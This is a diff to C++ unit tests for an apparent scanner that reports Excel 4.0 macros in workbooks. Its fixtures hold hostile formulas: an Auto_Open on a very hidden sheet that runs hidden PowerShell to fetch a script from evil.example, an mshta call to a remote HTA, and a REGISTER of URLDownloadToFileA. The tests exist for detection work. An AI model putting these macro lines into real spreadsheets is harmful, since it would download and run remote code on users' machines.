@@ -15,8 +15,8 @@ XlmMacros sample(SheetState state) {
   m.source = "Workbook";
   m.sheets = {{"Sheet1", SheetState::kVisible, false}, {"Kx", state, true}};
   m.names = {{"Auto_Open", "Kx!$A$1", true}, {"Print_Area", "Sheet1!$A$1:$B$2", true}};
-  m.cells = {{"Kx", "A1", "EXEC(\"powershell -w hidden iwr http://evil.example/a.ps1\")"},
-             {"Kx", "A2", "HALT()"}};
+  m.cells = {{"Kx", "A1", "EXEC(\"powershell -w hidden iwr http://evil.example/a.ps1\")", {}},
+             {"Kx", "A2", "HALT()", {}}};
   m.formula_count = 2;
   return m;
 }
@@ -43,6 +43,22 @@ TEST(XlmReport, AutoOpenExecOnVeryHiddenSheet) {
   EXPECT_NE(text.find("Kx!A1: =EXEC(\"powershell"), std::string::npos);
   EXPECT_NE(text.find("Name Auto_Open: =Kx!$A$1"), std::string::npos);
   EXPECT_EQ(ctx.num("xlm_formula_count"), 2);
+}
+
+// Cached string results and string constants are macro text (the detectors find the URL and
+// the command there); an empty constant makes no line.
+TEST(XlmReport, ValuesAndConstantsAreText) {
+  XlmMacros m = sample(SheetState::kVisible);
+  m.cells = {{"Kx", "A1", "EXEC(B1)", "mshta http://evil.example/x.hta"},
+             {"Kx", "B1", {}, "http://evil.example/x.hta"},
+             {"Kx", "C1", {}, {}}};
+  RecordingContext ctx;
+  report_xlm(m, ctx);
+  const std::string text = ctx.all_text(TextKind::kMacro);
+  EXPECT_NE(text.find("Kx!A1: =EXEC(B1) -> mshta http://evil.example/x.hta\n"), std::string::npos);
+  EXPECT_NE(text.find("Kx!B1: http://evil.example/x.hta\n"), std::string::npos);
+  EXPECT_EQ(text.find("Kx!C1"), std::string::npos);
+  EXPECT_TRUE(ctx.has(Symbol::XLM_EXECUTE));
 }
 
 TEST(XlmReport, HiddenAndVisibleSheets) {
@@ -99,7 +115,7 @@ TEST(XlmReport, ExecuteCallsOutsideStrings) {
 
 TEST(XlmReport, RegisterOfUrlDownloadToFileNamesTheApi) {
   XlmMacros m = sample(SheetState::kVisible);
-  m.cells = {{"Kx", "A1", "REGISTER(\"URLMON\",\"URLDownloadToFileA\",\"JJCCJJ\",\"D\")"}};
+  m.cells = {{"Kx", "A1", "REGISTER(\"URLMON\",\"URLDownloadToFileA\",\"JJCCJJ\",\"D\")", {}}};
   RecordingContext ctx;
   report_xlm(m, ctx);
   bool seen = false;
